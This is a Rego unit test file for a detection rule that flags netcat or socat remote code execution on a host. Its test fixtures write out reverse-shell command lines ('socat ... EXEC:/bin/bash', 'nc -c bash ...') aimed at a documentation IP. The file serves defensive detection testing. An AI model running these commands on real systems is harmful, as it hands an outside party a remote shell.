package bpfopa.rules.netcat_socat_remote_code_execution_on_host_test

import data.bpfopa.lib.testing
import data.bpfopa.rules.netcat_socat_remote_code_execution_on_host

test_alerts_socat_exec if {
	doc := testing.exec({"process": {"name": "socat", "exe": "/usr/bin/socat", "args": ["TCP:203.0.113.7:4444", "EXEC:/bin/bash"], "argv0": "socat", "cmdline": "socat TCP:203.0.113.7:4444 EXEC:/bin/bash"}})
	found := netcat_socat_remote_code_execution_on_host.alerts with input as doc
	count(found) == 1
	some alert in found
	alert.rule == "Netcat/Socat Remote Code Execution on Host"
	alert.id == "netcat_socat_remote_code_execution_on_host"
}

test_alerts_nc_c if {
	doc := testing.exec({"process": {"name": "nc", "exe": "/usr/bin/nc", "args": ["-c", "bash", "203.0.113.7", "4444"], "argv0": "nc", "cmdline": "nc -c bash 203.0.113.7 4444"}})
	found := netcat_socat_remote_code_execution_on_host.alerts with input as doc
	count(found) == 1
	some alert in found
	alert.rule == "Netcat/Socat Remote Code Execution on Host"
	alert.id == "netcat_socat_remote_code_execution_on_host"
}

test_no_alert_socat_forward if {
	doc := testing.exec({"process": {"name": "socat", "exe": "/usr/bin/socat", "args": ["TCP-LISTEN:80", "TCP:10.0.0.2:80"], "argv0": "socat", "cmdline": "socat TCP-LISTEN:80 TCP:10.0.0.2:80"}})
	count(netcat_socat_remote_code_execution_on_host.alerts) == 0 with input as doc
}

test_no_alert_socat_exec_in_container if {
	doc := testing.exec(object.union(testing.in_container, {"process": {"name": "socat", "exe": "/usr/bin/socat", "args": ["TCP:203.0.113.7:4444", "EXEC:/bin/bash"], "argv0": "socat", "cmdline": "socat TCP:203.0.113.7:4444 EXEC:/bin/bash"}}))
	count(netcat_socat_remote_code_execution_on_host.alerts) == 0 with input as doc
}
